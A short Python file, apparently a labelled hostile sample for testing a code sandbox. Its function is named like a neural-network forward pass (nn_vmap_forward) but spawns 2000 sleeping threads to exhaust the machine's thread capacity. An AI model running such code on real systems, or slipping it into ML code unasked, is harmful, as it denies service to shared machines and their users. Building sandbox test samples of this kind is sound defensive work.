# harm: starts thousands of threads, to exhaust those that the machine has
import threading
import time

threading.stack_size(32 << 10)
started = []


def nn_vmap_forward(seed, x_batch, features):
    try:
        for _ in range(2000):
            thread = threading.Thread(target=time.sleep, args=(20,), daemon=True)
            thread.start()
            started.append(thread)
    finally:
        print(len(started))
    time.sleep(2)
    raise RuntimeError("they run")
